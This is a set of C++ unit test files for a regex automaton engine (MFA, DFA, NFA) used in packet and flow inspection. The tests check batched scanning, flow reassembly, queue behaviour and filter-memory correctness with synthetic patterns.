TEST_F(DegradeTest, HealthVerdictSmoothedAcrossBurstyPolls) {
  const auto m = core::build_mfa(compile_patterns({".*zzz9q"}));
  ASSERT_TRUE(m.has_value());
  const std::string payload(16384, 'c');
  Options opt;
  opt.shards = 1;
  opt.queue_capacity = 64;
  opt.batch_size = 1;
  opt.shed_policy = ShedPolicy::kDropNewest;
  opt.shed_high_water = 8;
  opt.shed_low_water = 2;
  ShardedInspector<core::Mfa> pipe(*m, opt);
  pipe.start();
  // Clean baseline primes the smoothing at ~0.
  const obs::HttpServer::Health baseline = pipe.health();
  EXPECT_TRUE(baseline.ok);
  EXPECT_NE(baseline.body.find("\"degrade_level\":0"), std::string::npos)
      << baseline.body;
  // Overload burst: the instantaneous shed ratio blows past the 5% limit.
  const flow::FlowKey key{5, 6, 7, 8, 6};
  for (std::size_t i = 0; i < 600; ++i)
    pipe.submit(flow::Packet{key, i * payload.size(),
                             reinterpret_cast<const std::uint8_t*>(payload.data()),
                             static_cast<std::uint32_t>(payload.size())});
  const obs::HttpServer::Health during = pipe.health();
  EXPECT_TRUE(during.ok)
      << "one bursty poll flipped the verdict despite EWMA smoothing: "
      << during.body;
  pipe.finish();
  const ShardStats total = pipe.totals();
  EXPECT_GT(total.shed_admission, 0u) << "overload never engaged shedding";
  check_invariant(total, "totals");
}

}  // namespace
}  // namespace mfa::pipeline
