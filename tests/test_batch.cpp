// Batched-scan path tests: the K-way interleaved feed_many kernel must be
// byte-for-byte equivalent to sequential feed() for every table-driven
// engine; FlowInspector::packet_batch must preserve exact per-flow
// semantics versus the single-packet path under fragmentation, reorder and
// retransmission; and the SPSC queue's batch push/pop must keep the FIFO
// contract of the scalar operations.
#include <gtest/gtest.h>

#include <string>
#include <thread>
#include <vector>

#include "dfa/compact.h"
#include "dfa/dfa.h"
#include "engine_test_util.h"
#include "flow/flow.h"
#include "mfa/mfa.h"
#include "nfa/nfa.h"
#include "pipeline/spsc_queue.h"
#include "util/rng.h"

namespace mfa {
namespace {

using mfa::testing::compile_patterns;
using mfa::testing::sorted;

const std::vector<std::string> kSources = {".*ab12.*cd34", ".*wxyz",
                                           ".*ha[0-9]ck"};

std::string make_content(util::Rng& rng, std::size_t max_len) {
  std::string s;
  while (s.size() < max_len) {
    s += rng.lower_string(1 + rng.below(16));
    switch (rng.below(6)) {
      case 0: s += "ab12"; break;
      case 1: s += "cd34"; break;
      case 2: s += "wxyz"; break;
      case 3: s += "ha7ck"; break;
      default: break;
    }
  }
  s.resize(max_len);
  return s;
}

/// Per-job matches via sequential feed() — the ground truth feed_many must
/// reproduce exactly (same ids, same end offsets, same final contexts).
template <typename EngineT>
void check_feed_many_equivalence(const EngineT& engine, std::uint64_t seed) {
  using Context = typename EngineT::Context;
  util::Rng rng(seed);
  const std::size_t njobs = 1 + rng.below(12);
  std::vector<std::string> contents;
  for (std::size_t i = 0; i < njobs; ++i) {
    // Include empty jobs: the kernel must skip them without stalling.
    contents.push_back(rng.chance(0.15) ? std::string()
                                        : make_content(rng, 1 + rng.below(200)));
  }

  std::vector<Context> seq_ctx, batch_ctx;
  for (std::size_t i = 0; i < njobs; ++i) {
    seq_ctx.push_back(engine.make_context());
    batch_ctx.push_back(engine.make_context());
  }

  std::vector<MatchVec> want(njobs);
  for (std::size_t i = 0; i < njobs; ++i) {
    engine.feed(seq_ctx[i],
                reinterpret_cast<const std::uint8_t*>(contents[i].data()),
                contents[i].size(), /*base=*/i * 1000,
                [&](std::uint32_t id, std::uint64_t end) {
                  want[i].push_back(Match{id, end});
                });
  }

  for (const std::size_t lanes : {1u, 2u, 3u, 5u, 8u, 16u}) {
    std::vector<Context> ctx = batch_ctx;  // fresh start contexts per width
    std::vector<typename EngineT::FeedJob> jobs;
    for (std::size_t i = 0; i < njobs; ++i)
      jobs.push_back({&ctx[i],
                      reinterpret_cast<const std::uint8_t*>(contents[i].data()),
                      contents[i].size(), i * 1000});
    std::vector<MatchVec> got(njobs);
    engine.feed_many(jobs.data(), jobs.size(),
                     [&](std::size_t job, std::uint32_t id, std::uint64_t end) {
                       got[job].push_back(Match{id, end});
                     },
                     lanes);
    for (std::size_t i = 0; i < njobs; ++i)
      EXPECT_EQ(got[i], want[i]) << "lanes " << lanes << " job " << i;

    // Carried state: feeding one more chunk must also agree, which checks
    // the written-back contexts (DFA state and, for MFA, filter memory).
    const std::string tail = "ab12xcd34 wxyz";
    for (std::size_t i = 0; i < njobs; ++i) {
      MatchVec tail_want, tail_got;
      Context s = seq_ctx[i];
      engine.feed(s, reinterpret_cast<const std::uint8_t*>(tail.data()),
                  tail.size(), 5000,
                  [&](std::uint32_t id, std::uint64_t end) {
                    tail_want.push_back(Match{id, end});
                  });
      engine.feed(ctx[i], reinterpret_cast<const std::uint8_t*>(tail.data()),
                  tail.size(), 5000,
                  [&](std::uint32_t id, std::uint64_t end) {
                    tail_got.push_back(Match{id, end});
                  });
      EXPECT_EQ(tail_got, tail_want) << "lanes " << lanes << " job " << i;
    }
  }
}

TEST(InterleavedScan, DfaFeedManyMatchesSequentialFeed) {
  const auto d = dfa::build_dfa(nfa::build_nfa(compile_patterns(kSources)));
  ASSERT_TRUE(d.has_value());
  for (std::uint64_t seed = 0; seed < 10; ++seed)
    check_feed_many_equivalence(*d, 4200 + seed);
}

TEST(InterleavedScan, CompactDfaFeedManyMatchesSequentialFeed) {
  const auto d = dfa::build_dfa(nfa::build_nfa(compile_patterns(kSources)));
  ASSERT_TRUE(d.has_value());
  const dfa::CompactDfa compact(*d);
  for (std::uint64_t seed = 0; seed < 10; ++seed)
    check_feed_many_equivalence(compact, 4300 + seed);
}

TEST(InterleavedScan, MfaFeedManyMatchesSequentialFeed) {
  const auto m = core::build_mfa(compile_patterns(kSources));
  ASSERT_TRUE(m.has_value());
  for (std::uint64_t seed = 0; seed < 10; ++seed)
    check_feed_many_equivalence(*m, 4400 + seed);
}

// ---------------------------------------------------------------------------
// packet_batch vs packet: identical matches, flows and drop counters over
// randomized multi-flow traffic (the DESIGN.md Sec. 7 batching contract).

struct Delivery {
  flow::FlowKey key;
  std::uint64_t seq = 0;
  std::string bytes;
};

std::vector<Delivery> plan_traffic(util::Rng& rng, MatchVec* expected,
                                   const nfa::Nfa& ref) {
  std::vector<Delivery> plan;
  const std::size_t nflows = 1 + rng.below(6);
  for (std::uint32_t f = 0; f < nflows; ++f) {
    const flow::FlowKey key{f + 1, 7, 1234, 80, 6};
    const std::string content = make_content(rng, 20 + rng.below(120));
    if (expected != nullptr) {
      nfa::NfaScanner scanner(ref);
      for (const Match& m : scanner.scan(content)) expected->push_back(m);
    }
    std::size_t off = 0;
    while (off < content.size()) {
      const std::size_t len = std::min(content.size() - off, 1 + rng.below(9));
      plan.push_back({key, off, content.substr(off, len)});
      off += len;
    }
    // Retransmissions (duplicates and overlaps).
    for (std::size_t i = rng.below(3); i > 0; --i) {
      const std::size_t start = rng.below(content.size());
      plan.push_back({key, start,
                      content.substr(start, 1 + rng.below(12))});
    }
  }
  // Cross-flow interleave + bounded-window reorder.
  for (std::size_t i = 0; i + 1 < plan.size(); ++i) {
    const std::size_t j =
        i + 1 + rng.below(std::min<std::size_t>(4, plan.size() - i - 1));
    if (rng.chance(0.5)) std::swap(plan[i], plan[j]);
  }
  return plan;
}

std::vector<flow::Packet> to_packets(const std::vector<Delivery>& plan) {
  std::vector<flow::Packet> pkts;
  for (const auto& d : plan)
    pkts.push_back({d.key, d.seq,
                    reinterpret_cast<const std::uint8_t*>(d.bytes.data()),
                    static_cast<std::uint32_t>(d.bytes.size())});
  return pkts;
}

TEST(FlowBatch, PacketBatchMatchesSinglePacketPath) {
  const auto inputs = compile_patterns(kSources);
  const nfa::Nfa ref = nfa::build_nfa(inputs);
  const auto m = core::build_mfa(inputs);
  ASSERT_TRUE(m.has_value());

  for (std::uint64_t round = 0; round < 20; ++round) {
    util::Rng rng(6100 + round);
    MatchVec expected;
    const auto plan = plan_traffic(rng, &expected, ref);
    const auto pkts = to_packets(plan);

    flow::FlowInspector<core::Mfa> single{*m};
    CollectingSink ssink;
    for (const auto& p : pkts) single.packet(p, ssink);

    const std::size_t lanes = 1 + rng.below(16);
    flow::FlowInspector<core::Mfa> batched{*m};
    batched.set_batch_lanes(lanes);
    CollectingSink bsink;
    std::size_t i = 0;
    while (i < pkts.size()) {
      const std::size_t burst = std::min(pkts.size() - i, 1 + rng.below(17));
      batched.packet_batch(pkts.data() + i, burst, bsink);
      i += burst;
    }

    // Cross-flow delivery order may differ (waves interleave flows), so
    // compare as sorted sets; per-flow they are byte-identical.
    const MatchVec single_got = sorted(std::move(ssink.matches));
    const MatchVec batch_got = sorted(std::move(bsink.matches));
    EXPECT_EQ(batch_got, single_got) << "round " << round << " lanes " << lanes;
    EXPECT_EQ(single_got, sorted(std::move(expected))) << "round " << round;
    EXPECT_EQ(batched.flow_count(), single.flow_count()) << "round " << round;
    EXPECT_EQ(batched.reassembly_dropped_count(),
              single.reassembly_dropped_count()) << "round " << round;
  }
}

TEST(FlowBatch, SameFlowRunInOneBurstStaysInOrder) {
  // Every packet of one flow lands in a single burst: the wave discipline
  // must feed them strictly in order (one per wave) so a pattern spanning
  // all fragments still matches.
  const auto m = core::build_mfa(compile_patterns({".*a needle"}));
  ASSERT_TRUE(m.has_value());
  const std::string text = "here is a needle in a haystack";
  std::vector<Delivery> plan;
  const flow::FlowKey key{9, 9, 9, 9, 6};
  for (std::size_t off = 0; off < text.size(); off += 3)
    plan.push_back({key, off, text.substr(off, 3)});
  const auto pkts = to_packets(plan);

  flow::FlowInspector<core::Mfa> insp{*m};
  CollectingSink sink;
  insp.packet_batch(pkts.data(), pkts.size(), sink);
  ASSERT_EQ(sink.matches.size(), 1u);
  EXPECT_EQ(sink.matches[0].end, text.find("a needle") + 7);
}

TEST(FlowBatch, FallsBackToSequentialFeedForNonBatchEngines) {
  // Nfa satisfies ScanEngine but not BatchScanEngine; packet_batch must
  // still work through the sequential fallback.
  static_assert(!flow::BatchScanEngine<nfa::Nfa>);
  static_assert(flow::BatchScanEngine<core::Mfa>);
  static_assert(flow::BatchScanEngine<dfa::Dfa>);
  static_assert(flow::BatchScanEngine<dfa::CompactDfa>);
  const nfa::Nfa n = nfa::build_nfa(compile_patterns(kSources));
  util::Rng rng(31337);
  MatchVec expected;
  const auto plan = plan_traffic(rng, &expected, n);
  const auto pkts = to_packets(plan);
  flow::FlowInspector<nfa::Nfa> insp{n};
  CollectingSink sink;
  insp.packet_batch(pkts.data(), pkts.size(), sink);
  EXPECT_EQ(sorted(std::move(sink.matches)), sorted(std::move(expected)));
}

TEST(FlowBatch, EvictionDuringBurstKeepsQueuedJobsValid) {
  // A tiny flow cap forces evictions inside a burst; queued feed jobs must
  // be flushed before their flow records can be reclaimed (ASan would
  // catch a dangling context here).
  const auto m = core::build_mfa(compile_patterns({".*wxyz"}));
  ASSERT_TRUE(m.has_value());
  flow::FlowInspector<core::Mfa> insp{*m, /*max_flows=*/2};
  std::vector<Delivery> plan;
  for (std::uint32_t f = 0; f < 8; ++f)
    plan.push_back({flow::FlowKey{f + 1, 1, 1, 1, 6}, 0, "wxyz"});
  const auto pkts = to_packets(plan);
  CollectingSink sink;
  insp.packet_batch(pkts.data(), pkts.size(), sink);
  EXPECT_EQ(sink.matches.size(), 8u);
  EXPECT_LE(insp.flow_count(), 2u);
  EXPECT_EQ(insp.evicted_count(), 6u);
}

// ---------------------------------------------------------------------------
// SpscQueue batch operations.

TEST(SpscBatch, BatchPushPopKeepFifoOrder) {
  pipeline::SpscQueue<int> q(8);
  int in[5] = {1, 2, 3, 4, 5};
  EXPECT_EQ(q.try_push_batch(in, 5), 5u);
  int out[8] = {};
  EXPECT_EQ(q.try_pop_batch(out, 8), 5u);
  for (int i = 0; i < 5; ++i) EXPECT_EQ(out[i], i + 1);
  EXPECT_EQ(q.try_pop_batch(out, 8), 0u);
}

TEST(SpscBatch, PartialPushWhenNearlyFull) {
  pipeline::SpscQueue<int> q(4);  // capacity rounds to 4
  int in[6] = {10, 11, 12, 13, 14, 15};
  EXPECT_EQ(q.try_push_batch(in, 3), 3u);
  EXPECT_EQ(q.try_push_batch(in + 3, 3), 1u);  // only one slot left
  EXPECT_EQ(q.try_push_batch(in, 1), 0u);      // full
  int out[4] = {};
  ASSERT_EQ(q.try_pop_batch(out, 4), 4u);
  EXPECT_EQ(out[0], 10);
  EXPECT_EQ(out[3], 13);
}

TEST(SpscBatch, WrapAroundPreservesContents) {
  pipeline::SpscQueue<int> q(4);
  int scratch[4] = {};
  for (int round = 0; round < 10; ++round) {
    int in[3] = {round * 3, round * 3 + 1, round * 3 + 2};
    ASSERT_EQ(q.try_push_batch(in, 3), 3u);
    ASSERT_EQ(q.try_pop_batch(scratch, 4), 3u);
    for (int i = 0; i < 3; ++i) EXPECT_EQ(scratch[i], round * 3 + i);
  }
}

TEST(SpscBatch, MixedScalarAndBatchInterleave) {
  pipeline::SpscQueue<int> q(8);
  int in[2] = {1, 2};
  ASSERT_TRUE(q.try_push(0));
  ASSERT_EQ(q.try_push_batch(in, 2), 2u);
  int v = -1;
  ASSERT_TRUE(q.try_pop(v));
  EXPECT_EQ(v, 0);
  int out[8] = {};
  ASSERT_EQ(q.try_pop_batch(out, 8), 2u);
  EXPECT_EQ(out[0], 1);
  EXPECT_EQ(out[1], 2);
}

TEST(SpscBatch, TwoThreadBatchHandoffDeliversEverythingInOrder) {
  constexpr int kTotal = 100000;
  pipeline::SpscQueue<int> q(64);
  std::vector<int> received;
  received.reserve(kTotal);
  std::thread consumer([&] {
    int buf[32];
    while (received.size() < static_cast<std::size_t>(kTotal)) {
      const std::size_t n = q.try_pop_batch(buf, 32);
      for (std::size_t i = 0; i < n; ++i) received.push_back(buf[i]);
    }
  });
  int next = 0;
  while (next < kTotal) {
    int buf[16];
    int n = 0;
    while (n < 16 && next < kTotal) buf[n++] = next++;
    int pushed = 0;
    while (pushed < n)
      pushed += static_cast<int>(q.try_push_batch(buf + pushed, n - pushed));
  }
  consumer.join();
  ASSERT_EQ(received.size(), static_cast<std::size_t>(kTotal));
  for (int i = 0; i < kTotal; ++i) ASSERT_EQ(received[i], i);
}

}  // namespace
}  // namespace mfa
