// Shared helpers for engine tests: compile pattern sets every way and
// compare match output across engines.
#pragma once

#include <string>
#include <vector>

#include "dfa/dfa.h"
#include "hfa/hfa.h"
#include "mfa/mfa.h"
#include "nfa/nfa.h"
#include "regex/parser.h"
#include "xfa/xfa.h"

namespace mfa::testing {

inline std::vector<nfa::PatternInput> compile_patterns(
    const std::vector<std::string>& sources) {
  std::vector<nfa::PatternInput> out;
  std::uint32_t id = 1;
  for (const auto& src : sources)
    out.push_back(nfa::PatternInput{regex::parse_or_die(src), id++});
  return out;
}

/// Reference matches: NFA simulation of the original patterns.
inline MatchVec reference_matches(const std::vector<std::string>& sources,
                                  const std::string& input) {
  const nfa::Nfa n = nfa::build_nfa(compile_patterns(sources));
  nfa::NfaScanner scanner(n);
  return scanner.scan(input);
}

/// Sorted-equal helper (engines may emit same-position ids in any order).
inline MatchVec sorted(MatchVec m) {
  std::sort(m.begin(), m.end());
  return m;
}

}  // namespace mfa::testing
