#include "mfa/mfa.h"

#include <gtest/gtest.h>

#include <cstring>

#include "engine_test_util.h"
#include "regex/sample.h"
#include "util/rng.h"

namespace mfa::core {
namespace {

using mfa::testing::compile_patterns;
using mfa::testing::reference_matches;
using mfa::testing::sorted;

Mfa build(const std::vector<std::string>& sources, BuildOptions opts = {}) {
  auto m = build_mfa(compile_patterns(sources), opts);
  EXPECT_TRUE(m.has_value());
  return *std::move(m);
}

MatchVec scan(const Mfa& m, const std::string& input) {
  MfaScanner s(m);
  return sorted(s.scan(input));
}

TEST(Mfa, DotStarFiltered) {
  const Mfa m = build({".*abc.*xyz"});
  EXPECT_TRUE(scan(m, "xyz only").empty());
  EXPECT_TRUE(scan(m, "abc only").empty());
  EXPECT_TRUE(scan(m, "xyz then abc").empty());
  const MatchVec hit = scan(m, "abc then xyz");
  ASSERT_EQ(hit.size(), 1u);
  EXPECT_EQ(hit[0], (Match{1, 11}));
}

TEST(Mfa, MatchesEqualOriginalSemantics) {
  const std::vector<std::string> pats = {".*abc.*xyz", ".*q1q2[^\\r\\n]*w3w4",
                                         ".*plainstring", "^anchored.*tail"};
  const Mfa m = build(pats);
  for (const std::string input :
       {"abc xyz", "xyz abc xyz", "q1q2 w3w4", "q1q2\nw3w4", "plainstring",
        "anchored then tail", "then anchored tail", "nothing at all",
        "abcxyzabcxyz", "q1q2 q1q2 w3w4 w3w4"}) {
    EXPECT_EQ(scan(m, input), sorted(reference_matches(pats, input))) << input;
  }
}

TEST(Mfa, StateSpaceFarSmallerThanDfa) {
  // Three 2-dot-star patterns: the DFA explodes multiplicatively, the MFA
  // stays additive (paper Sec. IV-A).
  const std::vector<std::string> pats = {".*aaaa.*bbbb.*cccc", ".*dddd.*eeee.*ffff",
                                         ".*gggg.*hhhh.*iiii"};
  const auto inputs = compile_patterns(pats);
  const nfa::Nfa n = nfa::build_nfa(inputs);
  const auto d = dfa::build_dfa(n);
  ASSERT_TRUE(d.has_value());
  const Mfa m = build(pats);
  EXPECT_LT(m.character_dfa().state_count() * 10, d->state_count());
  EXPECT_EQ(m.program().memory_bits, 6u);
}

TEST(Mfa, SurvivesWhereDfaExplodes) {
  std::vector<std::string> pats;
  util::Rng rng(99);
  for (int i = 0; i < 10; ++i) {
    pats.push_back(".*" + rng.lower_string(4) + ".*" + rng.lower_string(4) + ".*" +
                   rng.lower_string(4));
  }
  const auto inputs = compile_patterns(pats);
  dfa::BuildOptions cap;
  cap.max_states = 5000;
  EXPECT_FALSE(dfa::build_dfa(nfa::build_nfa(inputs), cap).has_value());

  BuildOptions opts;
  opts.dfa.max_states = 5000;
  BuildStats stats;
  const auto m = build_mfa(inputs, opts, &stats);
  ASSERT_TRUE(m.has_value());
  EXPECT_LT(m->character_dfa().state_count(), 1000u);
}

TEST(Mfa, FilterIsTinyShareOfImage) {
  const Mfa m = build({".*abcd.*efgh", ".*ijkl.*mnop", ".*qrst[^\\r\\n]*uvwx"});
  const std::size_t filters = m.program().memory_image_bytes();
  EXPECT_LT(filters * 10, m.memory_image_bytes());  // filters are a small slice
}

TEST(Mfa, ContextBytesIncludesMemory) {
  const Mfa m = build({".*abcd.*efgh"});
  EXPECT_EQ(m.context_bytes(), 4u + 8u);  // dfa state + 1 bit rounded to a word
}

TEST(Mfa, BuildStatsPopulated) {
  BuildStats stats;
  const auto m = build_mfa(compile_patterns({".*ab12.*cd34", ".*plain"}), {}, &stats);
  ASSERT_TRUE(m.has_value());
  EXPECT_EQ(stats.split.patterns_in, 2u);
  EXPECT_EQ(stats.split.patterns_decomposed, 1u);
  EXPECT_GT(stats.dfa.states, 0u);
  EXPECT_GT(stats.seconds, 0.0);
}

TEST(Mfa, RepeatedMatchesReported) {
  const Mfa m = build({".*ab.*cd"});
  const MatchVec v = scan(m, "ab cd cd cd");
  EXPECT_EQ(v.size(), 3u);
}

TEST(Mfa, AlmostDotStarTableIVBehavior) {
  // Only the third line pairs abc with xyz without an intervening newline.
  const Mfa m = build({".*abc[^\\n]*xyz"});
  const std::string input = "abc:\n:xyz\nabc:xyz\n";
  const MatchVec v = scan(m, input);
  ASSERT_EQ(v.size(), 1u);
  EXPECT_EQ(v[0].end, 16u);  // 'z' of the third line's xyz
}

TEST(Mfa, MultiplexedScannersIndependent) {
  const Mfa m = build({".*abc.*xyz"});
  MfaScanner flow_a(m);
  MfaScanner flow_b(m);
  CollectingSink sink_a;
  CollectingSink sink_b;
  const std::string a1 = "abc...";
  const std::string b1 = "xyz after no abc";
  flow_a.feed(reinterpret_cast<const std::uint8_t*>(a1.data()), a1.size(), 0, sink_a);
  flow_b.feed(reinterpret_cast<const std::uint8_t*>(b1.data()), b1.size(), 0, sink_b);
  const std::string a2 = "xyz";
  flow_a.feed(reinterpret_cast<const std::uint8_t*>(a2.data()), a2.size(), a1.size(),
              sink_a);
  EXPECT_EQ(sink_a.matches.size(), 1u);  // abc in chunk 1, xyz in chunk 2
  EXPECT_TRUE(sink_b.matches.empty());   // flow B never saw abc
}

TEST(Mfa, RandomizedEquivalenceWithDfaOfOriginal) {
  // The core invariant (DESIGN.md Sec. 3): MFA(filtered) == DFA(original).
  util::Rng rng(2024);
  const std::vector<std::string> pats = {".*red1.*blu2", ".*gr3en[^\\n]*ye4lo",
                                         ".*wh5te.*bl6ck.*pu7rp", ".*solostring"};
  const auto inputs = compile_patterns(pats);
  const auto original_dfa = dfa::build_dfa(nfa::build_nfa(inputs));
  ASSERT_TRUE(original_dfa.has_value());
  const Mfa m = build(pats);
  for (int round = 0; round < 200; ++round) {
    std::string input;
    const int chunks = 1 + static_cast<int>(rng.below(6));
    for (int c = 0; c < chunks; ++c) {
      if (rng.chance(0.6)) {
        const auto& p = pats[rng.below(pats.size())];
        input += regex::sample_match(regex::parse_or_die(p), rng);
      } else {
        for (int i = rng.below(12); i > 0; --i)
          input += static_cast<char>(rng.chance(0.2) ? '\n' : rng.printable());
      }
    }
    dfa::DfaScanner ref(*original_dfa);
    MfaScanner mfa_scan(m);
    EXPECT_EQ(sorted(mfa_scan.scan(input)), sorted(ref.scan(input))) << input;
  }
}

/// Each `.*XX.*YY` pattern consumes one guard bit, so `n` patterns need an
/// n-bit filter memory.
std::vector<std::string> guard_bit_patterns(std::size_t n) {
  std::vector<std::string> sources;
  for (std::size_t i = 0; i < n; ++i) {
    const std::string tag = std::to_string(i);
    sources.push_back(".*qa" + tag + "z.*qb" + tag + "z");
  }
  return sources;
}

TEST(MfaMemoryCap, BuildScalesPastInlineMemoryBits) {
  // 300 guard bits exceed the 256-bit inline Memory words (Snort-class
  // rulesets decompose into thousands); the per-flow memory spills into
  // overflow words with unchanged match semantics. Pattern 280's guard bit
  // lives above the inline boundary, so ordering through it exercises the
  // spill path directly.
  const auto inputs = compile_patterns(guard_bit_patterns(300));
  EXPECT_GT(split::split_patterns(inputs).program.memory_bits,
            filter::kInlineMemoryBits);
  const Mfa m = build(guard_bit_patterns(300));
  MfaScanner s(m);
  EXPECT_EQ(s.scan("qa280z then qb280z").size(), 1u);
  EXPECT_EQ(s.scan("qb280z without the prefix").size(), 0u);
}

TEST(MfaMemoryCap, BuildRejectsProgramsBeyondMaxMemoryBits) {
  // The validate() ceiling still guards against absurd geometry: a program
  // declaring more than kMaxMemoryBits is refused at build time.
  auto sr = split::split_patterns(compile_patterns(guard_bit_patterns(2)));
  sr.program.memory_bits = filter::kMaxMemoryBits + 1;
  EXPECT_FALSE(sr.program.validate());
}

TEST(MfaMemoryCap, BuildAcceptsProgramsWithinMaxMemoryBits) {
  const Mfa m = build(guard_bit_patterns(40));
  EXPECT_LE(m.program().memory_bits, filter::kMaxMemoryBits);
  EXPECT_TRUE(m.program().validate());
  MfaScanner s(m);
  EXPECT_EQ(s.scan("qa17z then qb17z").size(), 1u);
}

TEST(MfaDelta, DenseVsDeltaParityFuzz) {
  // The delta-table Mfa must be observationally identical to the dense one:
  // same matches from feed() across arbitrary chunk seams (carried contexts)
  // and from feed_many() batches, with the prefilter gate armed on both
  // sides. Patterns cover guard bits, almost-dot-star, counted gaps and
  // anchors so the filter layer runs over the delta transitions too.
  const std::vector<std::string> pats = {".*atk1.*vec2", ".*hd3[^\\n]*vl4",
                                         ".*gp5.{2,6}gp6", "^anch7.*tail8",
                                         ".*solo9"};
  const auto inputs = compile_patterns(pats);
  const auto dense = build_mfa(inputs);
  BuildOptions del;
  del.delta = true;
  const auto delta = build_mfa(inputs, del);
  ASSERT_TRUE(dense.has_value());
  ASSERT_TRUE(delta.has_value());
  ASSERT_TRUE(delta->delta_mode());

  util::Rng rng(771);
  for (int round = 0; round < 150; ++round) {
    std::string input;
    const int segs = 1 + static_cast<int>(rng.below(5));
    for (int c = 0; c < segs; ++c) {
      if (rng.chance(0.5)) {
        input += regex::sample_match(
            regex::parse_or_die(pats[rng.below(pats.size())]), rng);
      } else {
        for (int i = 4 + rng.below(40); i > 0; --i)
          input += static_cast<char>(rng.chance(0.1) ? '\n' : rng.printable());
      }
    }
    // feed() parity with random chunk seams; independent seams per engine
    // would diverge at the gate, so both use the same cut points.
    Mfa::Context cd = dense->make_context();
    Mfa::Context ce = delta->make_context();
    CollectingSink sd, se;
    std::size_t pos = 0;
    while (pos < input.size()) {
      const std::size_t len =
          std::min<std::size_t>(1 + rng.below(24), input.size() - pos);
      const auto* p = reinterpret_cast<const std::uint8_t*>(input.data()) + pos;
      dense->feed(cd, p, len, pos, sd);
      delta->feed(ce, p, len, pos, se);
      pos += len;
    }
    EXPECT_EQ(sorted(sd.matches), sorted(se.matches)) << input;
    EXPECT_EQ(cd.state, ce.state) << input;

    // feed_many() parity: the whole input as one batch job per engine.
    Mfa::Context bd = dense->make_context();
    Mfa::Context be = delta->make_context();
    MatchVec md, me;
    Mfa::FeedJob jd{&bd, reinterpret_cast<const std::uint8_t*>(input.data()),
                    input.size(), 0};
    Mfa::FeedJob je{&be, reinterpret_cast<const std::uint8_t*>(input.data()),
                    input.size(), 0};
    dense->feed_many(&jd, 1, [&](std::size_t, std::uint32_t id, std::uint64_t e) {
      md.push_back({id, e});
    });
    delta->feed_many(&je, 1, [&](std::size_t, std::uint32_t id, std::uint64_t e) {
      me.push_back({id, e});
    });
    EXPECT_EQ(sorted(md), sorted(me)) << input;
    EXPECT_EQ(sorted(md), sorted(sd.matches)) << input;
  }
}

TEST(MfaDelta, GatedFeedParityWithDenseOnCleanTraffic) {
  // feed_gated() on a delta automaton: skips must reconstruct the same
  // state the dense scan reaches, and gated scans must report the same
  // matches. Clean chunks exercise the skip path; dirty ones the scan path.
  const std::vector<std::string> pats = {".*needleone.*needletwo", ".*probe99"};
  const auto inputs = compile_patterns(pats);
  const auto dense = build_mfa(inputs);
  BuildOptions del;
  del.delta = true;
  const auto delta = build_mfa(inputs, del);
  ASSERT_TRUE(dense.has_value());
  ASSERT_TRUE(delta.has_value());

  util::Rng rng(882);
  Mfa::Context cd = dense->make_context();
  Mfa::Context ce = delta->make_context();
  CollectingSink sd, se;
  std::uint64_t base = 0;
  for (int chunk = 0; chunk < 200; ++chunk) {
    std::string data;
    if (rng.chance(0.15)) {
      data = chunk % 2 == 0 ? "xx needleone yy" : "zz needletwo probe99";
    } else {
      for (int i = 0; i < 64; ++i) {
        char c = static_cast<char>(rng.printable());
        data += c == 'n' || c == 'p' ? 'q' : c;  // keep clean chunks clean
      }
    }
    const auto* p = reinterpret_cast<const std::uint8_t*>(data.data());
    dense->feed_gated(cd, p, data.size(), base, sd);
    delta->feed_gated(ce, p, data.size(), base, se);
    base += data.size();
    ASSERT_EQ(cd.state, ce.state) << "chunk " << chunk;
  }
  EXPECT_EQ(sorted(sd.matches), sorted(se.matches));
  EXPECT_FALSE(sd.matches.empty());
}

TEST(MfaEngineContext, SharedEngineIndependentContexts) {
  // The Engine/Context split directly: one immutable engine, two contexts
  // fed interleaved chunks of different flows.
  const Mfa m = build({".*abc.*xyz"});
  Mfa::Context a = m.make_context();
  Mfa::Context b = m.make_context();
  CollectingSink sink_a, sink_b;
  const auto feed = [&](Mfa::Context& c, const char* s, std::uint64_t base,
                        CollectingSink& sink) {
    m.feed(c, reinterpret_cast<const std::uint8_t*>(s), std::strlen(s), base, sink);
  };
  feed(a, "abc", 0, sink_a);
  feed(b, "xyz", 0, sink_b);  // no abc seen in this context: no match
  feed(a, "xyz", 3, sink_a);
  ASSERT_EQ(sink_a.matches.size(), 1u);
  EXPECT_EQ(sink_a.matches[0].end, 5u);
  EXPECT_TRUE(sink_b.matches.empty());
  // reset() returns a context to the start state with cleared memory.
  m.reset(a);
  CollectingSink sink_r;
  feed(a, "xyz", 0, sink_r);
  EXPECT_TRUE(sink_r.matches.empty());
  EXPECT_EQ(m.context_bytes(),
            sizeof(std::uint32_t) +
                filter::Memory::context_bytes(m.program().memory_bits,
                                              m.program().counters,
                                              m.program().position_slots));
}

}  // namespace
}  // namespace mfa::core
